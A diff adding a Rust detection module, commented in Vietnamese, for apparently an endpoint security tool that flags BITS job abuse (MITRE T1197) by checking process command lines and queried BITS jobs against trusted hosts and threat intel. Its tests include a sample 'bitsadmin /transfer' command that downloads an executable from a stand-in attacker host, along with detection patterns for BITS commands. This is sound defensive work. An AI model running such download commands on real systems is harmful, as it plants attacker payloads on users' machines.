@@ -0,0 +1,407 @@
+//! BITS Job Abuse Detection (T1197)
+//!
+//! Mục đích: Phát hiện BITS transfer job tải từ URL bên ngoài do process không
+//! phải updater tạo ra
+//!
+//! BITS được attacker dùng để tải payload / duy trì persistence (job sống qua
+//! reboot, `SetNotifyCmdLine` chạy lệnh khi job xong) dưới danh nghĩa svchost.
+//!
+//! 2 nguồn:
+//! 1. Command line: `bitsadmin /transfer|/addfile|/setnotifycmdline`, `Start-BitsTransfer`
+//!    → biết process tạo job
+//! 2. Job list (`Get-BitsTransfer -AllUsers`) → bắt cả job tạo qua BITS COM interface
+//!
+//! URL được check với external intel (URL + domain + IP) để nâng severity.
+//!
+//! Get-BitsTransfer mất vài giây (khởi động PowerShell) → chạy ở thread nền có
+//! timeout; `scan` dùng job list đã cache từ lần query trước và không bao giờ chặn.
+
+use std::collections::HashSet;
+use std::net::IpAddr;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
+use parking_lot::Mutex;
+use once_cell::sync::Lazy;
+use chrono::Utc;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+
+use crate::logic::external_intel::threat_feed;
+use crate::logic::incident::{self, Severity};
+
+// ============================================================================
+// CONSTANTS
+// ============================================================================
+
+const MITRE_ID: &str = "T1197";
+const MAX_ALERTS: usize = 500;
+/// Get-BitsTransfer treo quá lâu → kill, giữ cache cũ
+const JOB_QUERY_TIMEOUT: Duration = Duration::from_secs(30);
+
+/// Process cập nhật hợp lệ (tạo BITS job thường xuyên)
+const UPDATER_PROCESSES: &[&str] = &[
+    "svchost.exe", "wuauclt.exe", "usoclient.exe", "msmpeng.exe", "mpcmdrun.exe",
+    "microsoftedgeupdate.exe", "googleupdate.exe", "officeclicktorun.exe",
+    "onedrivesetup.exe", "onedrive.exe", "trustedinstaller.exe",
+];
+
+/// Display name của job cập nhật
+const UPDATER_JOB_NAMES: &[&str] = &[
+    "windows update", "microsoft edge update", "googleupdate", "google update",
+    "microsoft outlook offline address book", "officeclicktorun", "onedrive",
+    "windows defender", "delivery optimization",
+];
+
+/// Host tin cậy (so khớp cả subdomain)
+const TRUSTED_HOSTS: &[&str] = &[
+    "windowsupdate.com", "update.microsoft.com", "delivery.mp.microsoft.com",
+    "download.microsoft.com", "msedge.net", "officecdn.microsoft.com",
+    "dl.google.com", "gvt1.com",
+];
+
+const QUERY_SCRIPT: &str = r#"
+$j = @(Get-BitsTransfer -AllUsers -ErrorAction SilentlyContinue | ForEach-Object {
+  [pscustomobject]@{
+    JobId = "$($_.JobId)"; DisplayName = $_.DisplayName; OwnerAccount = $_.OwnerAccount; JobState = "$($_.JobState)";
+    RemoteNames = @($_.FileList | ForEach-Object { $_.RemoteName }); LocalNames = @($_.FileList | ForEach-Object { $_.LocalName })
+  }
+})
+ConvertTo-Json -InputObject $j -Depth 3 -Compress
+"#;
+
+static URL_REGEX: Lazy<Regex> = Lazy::new(|| Regex::new(r#"(?i)https?://[^\s"'<>]+"#).unwrap());
+
+// ============================================================================
+// TYPES
+// ============================================================================
+
+/// BITS job (output của Get-BitsTransfer)
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(rename_all = "PascalCase", default)]
+pub struct BitsJob {
+    pub job_id: String,
+    pub display_name: String,
+    pub owner_account: String,
+    pub job_state: String,
+    pub remote_names: Vec<String>,
+    pub local_names: Vec<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BitsAbuseAlert {
+    /// "command_line" | "job"
+    pub source: String,
+    pub job_id: Option<String>,
+    pub display_name: Option<String>,
+    pub owner: Option<String>,
+    pub process_name: Option<String>,
+    pub pid: Option<u32>,
+    pub url: String,
+    pub local_path: Option<String>,
+    /// Command line đầy đủ (nguồn command_line)
+    pub command_line: Option<String>,
+    /// URL / domain / IP có trong threat feed
+    pub intel_match: bool,
+    pub mitre_id: String,
+    pub timestamp: i64,
+}
+
+// ============================================================================
+// STATE
+// ============================================================================
+
+/// (pid, url) đã báo từ command line
+static REPORTED_CMDLINES: Lazy<Mutex<HashSet<(u32, String)>>> = Lazy::new(|| Mutex::new(HashSet::new()));
+/// (job id, url) đã báo
+static REPORTED_JOBS: Lazy<Mutex<HashSet<(String, String)>>> = Lazy::new(|| Mutex::new(HashSet::new()));
+static ALERTS: Lazy<Mutex<Vec<BitsAbuseAlert>>> = Lazy::new(|| Mutex::new(Vec::new()));
+/// Job list từ query nền gần nhất, chưa được scan
+static JOB_CACHE: Lazy<Mutex<Option<Vec<BitsJob>>>> = Lazy::new(|| Mutex::new(None));
+static JOB_QUERY_RUNNING: AtomicBool = AtomicBool::new(false);
+
+// ============================================================================
+// PUBLIC API
+// ============================================================================
+
+/// Scan command line + job list. Trả về alert mới.
+pub fn scan() -> Vec<BitsAbuseAlert> {
+    let mut alerts = scan_command_lines();
+    alerts.extend(scan_jobs());
+
+    for alert in &alerts {
+        raise_incident(alert);
+    }
+    if !alerts.is_empty() {
+        let mut history = ALERTS.lock();
+        history.extend(alerts.iter().cloned());
+        let overflow = history.len().saturating_sub(MAX_ALERTS);
+        history.drain(..overflow);
+    }
+    alerts
+}
+
+pub fn get_recent_alerts(limit: usize) -> Vec<BitsAbuseAlert> {
+    ALERTS.lock().iter().rev().take(limit).cloned().collect()
+}
+
+// ============================================================================
+// SOURCES
+// ============================================================================
+
+fn scan_command_lines() -> Vec<BitsAbuseAlert> {
+    let mut system = sysinfo::System::new();
+    system.refresh_processes();
+
+    let mut alive = HashSet::new();
+    let mut alerts = Vec::new();
+    for (pid, process) in system.processes() {
+        let pid = pid.as_u32();
+        alive.insert(pid);
+
+        let name = process.name().to_lowercase();
+        let cmdline = process.cmd().join(" ");
+        if !is_bits_command(&name, &cmdline) {
+            continue;
+        }
+
+        // bitsadmin / powershell do updater chạy → bỏ qua
+        let parent_is_updater = process.parent()
+            .and_then(|ppid| system.process(ppid))
+            .map(|p| is_updater_process(&p.name().to_lowercase()))
+            .unwrap_or(false);
+        if parent_is_updater {
+            continue;
+        }
+
+        for url in extract_urls(&cmdline) {
+            if !is_external_url(&url) || is_trusted_url(&url)
+                || !REPORTED_CMDLINES.lock().insert((pid, url.clone()))
+            {
+                continue;
+            }
+            alerts.push(BitsAbuseAlert {
+                source: "command_line".to_string(),
+                job_id: None,
+                display_name: None,
+                owner: None,
+                process_name: Some(process.name().to_string()),
+                pid: Some(pid),
+                intel_match: check_intel(&url),
+                url,
+                local_path: None,
+                command_line: Some(cmdline.clone()),
+                mitre_id: MITRE_ID.to_string(),
+                timestamp: Utc::now().timestamp(),
+            });
+        }
+    }
+
+    REPORTED_CMDLINES.lock().retain(|(pid, _)| alive.contains(pid));
+    alerts
+}
+
+fn scan_jobs() -> Vec<BitsAbuseAlert> {
+    let cached = JOB_CACHE.lock().take();
+    refresh_jobs();
+    let jobs = match cached {
+        Some(j) => j,
+        None => return Vec::new(),
+    };
+
+    let mut alerts = Vec::new();
+    for job in &jobs {
+        if is_updater_job(&job.display_name) {
+            continue;
+        }
+        for (i, url) in job.remote_names.iter().enumerate() {
+            if !is_external_url(url) || is_trusted_url(url)
+                || !REPORTED_JOBS.lock().insert((job.job_id.clone(), url.clone()))
+            {
+                continue;
+            }
+            alerts.push(BitsAbuseAlert {
+                source: "job".to_string(),
+                job_id: Some(job.job_id.clone()),
+                display_name: Some(job.display_name.clone()),
+                owner: Some(job.owner_account.clone()),
+                process_name: None,
+                pid: None,
+                url: url.clone(),
+                local_path: job.local_names.get(i).cloned(),
+                command_line: None,
+                intel_match: check_intel(url),
+                mitre_id: MITRE_ID.to_string(),
+                timestamp: Utc::now().timestamp(),
+            });
+        }
+    }
+
+    let live: HashSet<&str> = jobs.iter().map(|j| j.job_id.as_str()).collect();
+    REPORTED_JOBS.lock().retain(|(id, _)| live.contains(id.as_str()));
+    alerts
+}
+
+/// Query job list ở thread nền (tối đa 1 query cùng lúc), kết quả vào `JOB_CACHE`
+fn refresh_jobs() {
+    if JOB_QUERY_RUNNING.swap(true, Ordering::SeqCst) {
+        return;
+    }
+    std::thread::spawn(|| {
+        if let Some(jobs) = platform::query_jobs() {
+            *JOB_CACHE.lock() = Some(jobs);
+        }
+        JOB_QUERY_RUNNING.store(false, Ordering::SeqCst);
+    });
+}
+
+// ============================================================================
+// HELPERS
+// ============================================================================
+
+/// Command line có tạo / sửa BITS job không
+pub fn is_bits_command(process_name: &str, cmdline: &str) -> bool {
+    let lower = cmdline.to_lowercase();
+    match process_name {
+        "bitsadmin.exe" => ["/transfer", "/addfile", "/setnotifycmdline", "/create"]
+            .iter()
+            .any(|s| lower.contains(s)),
+        "powershell.exe" | "pwsh.exe" => lower.contains("start-bitstransfer") || lower.contains("add-bitsfile"),
+        _ => false,
+    }
+}
+
+pub fn extract_urls(cmdline: &str) -> Vec<String> {
+    URL_REGEX.find_iter(cmdline)
+        .map(|m| m.as_str().trim_end_matches(|c| c == ',' || c == ';' || c == ')').to_string())
+        .collect()
+}
+
+fn host_of(url: &str) -> Option<String> {
+    reqwest::Url::parse(url).ok()?.host_str().map(|h| h.trim_matches(|c| c == '[' || c == ']').to_lowercase())
+}
+
+/// URL trỏ ra ngoài (không phải localhost / IP nội bộ / tên intranet 1 label)
+pub fn is_external_url(url: &str) -> bool {
+    let host = match host_of(url) {
+        Some(h) => h,
+        None => return false,
+    };
+    match host.parse::<IpAddr>() {
+        Ok(IpAddr::V4(ip)) => !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified()),
+        Ok(IpAddr::V6(ip)) => !(ip.is_loopback() || ip.is_unspecified() || (ip.segments()[0] & 0xfe00) == 0xfc00),
+        Err(_) => host != "localhost" && host.contains('.') && !host.ends_with(".local"),
+    }
+}
+
+fn is_trusted_url(url: &str) -> bool {
+    host_of(url)
+        .map(|host| TRUSTED_HOSTS.iter().any(|t| host == *t || host.ends_with(&format!(".{}", t))))
+        .unwrap_or(false)
+}
+
+fn is_updater_process(name: &str) -> bool {
+    UPDATER_PROCESSES.contains(&name)
+}
+
+fn is_updater_job(display_name: &str) -> bool {
+    let lower = display_name.to_lowercase();
+    UPDATER_JOB_NAMES.iter().any(|n| lower.contains(n))
+}
+
+/// URL / domain / IP có trong threat feed không
+fn check_intel(url: &str) -> bool {
+    if threat_feed::is_malicious_url(url) {
+        return true;
+    }
+    match host_of(url) {
+        Some(host) if host.parse::<IpAddr>().is_ok() => threat_feed::is_malicious_ip(&host),
+        Some(host) => threat_feed::is_malicious_domain(&host),
+        None => false,
+    }
+}
+
+fn raise_incident(alert: &BitsAbuseAlert) {
+    let severity = if alert.intel_match { Severity::Critical } else { Severity::Medium };
+    let origin = match (&alert.process_name, alert.pid, &alert.display_name) {
+        (Some(name), Some(pid), _) => format!("{} (PID {})", name, pid),
+        (_, _, Some(job)) => format!("job '{}' owned by {}", job, alert.owner.as_deref().unwrap_or("-")),
+        _ => "unknown".to_string(),
+    };
+
+    let mut description = format!("BITS transfer from {} created by {}", alert.url, origin);
+    if let Some(path) = &alert.local_path {
+        description.push_str(&format!(" → {}", path));
+    }
+    if alert.intel_match {
+        description.push_str(" (URL matches threat intel)");
+    }
+
+    incident::raise_detection(
+        &format!("Defense Evasion: BITS job abuse ({})", host_of(&alert.url).unwrap_or_default()),
+        severity,
+        &["BITS_ABUSE".to_string(), "DEFENSE_EVASION".to_string()],
+        &[MITRE_ID],
+        &description,
+    );
+}
+
+// ============================================================================
+// PLATFORM
+// ============================================================================
+
+#[cfg(windows)]
+mod platform {
+    use super::*;
+
+    /// Cần quyền admin cho -AllUsers; lỗi / timeout → None
+    pub fn query_jobs() -> Option<Vec<BitsJob>> {
+        let stdout = crate::logic::behavioral_sigs::run_powershell(QUERY_SCRIPT, JOB_QUERY_TIMEOUT)?;
+        let stdout = stdout.trim();
+        if stdout.is_empty() {
+            return Some(Vec::new());
+        }
+        serde_json::from_str(stdout).ok()
+    }
+}
+
+#[cfg(not(windows))]
+mod platform {
+    use super::*;
+
+    pub fn query_jobs() -> Option<Vec<BitsJob>> {
+        None
+    }
+}
+
+// ============================================================================
+// TESTS
+// ============================================================================
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_bits_command_and_urls() {
+        let cmd = r"bitsadmin /transfer job /download /priority high http://evil.example.com/a.exe C:\Users\Public\a.exe";
+        assert!(is_bits_command("bitsadmin.exe", cmd));
+        assert!(!is_bits_command("bitsadmin.exe", "bitsadmin /list"));
+        assert!(is_bits_command("powershell.exe", "Start-BitsTransfer -Source 'https://x.io/p.ps1'"));
+
+        assert_eq!(extract_urls(cmd), vec!["http://evil.example.com/a.exe".to_string()]);
+        assert_eq!(extract_urls("Start-BitsTransfer -Source 'https://x.io/p.ps1'"), vec!["https://x.io/p.ps1".to_string()]);
+    }
+
+    #[test]
+    fn test_external_and_trusted_urls() {
+        assert!(is_external_url("http://evil.example.com/a.exe"));
+        assert!(is_external_url("http://8.8.8.8/a.exe"));
+        assert!(!is_external_url("http://192.168.1.10/a.exe"));
+        assert!(!is_external_url("http://localhost/a.exe"));
+        assert!(!is_external_url("http://fileserver/share/a.exe"));
+
+        assert!(is_trusted_url("http://au.download.windowsupdate.com/x.cab"));
+        assert!(!is_trusted_url("http://windowsupdate.com.evil.io/x.cab"));
+        assert!(is_updater_job("Microsoft Edge Update"));
+    }
+}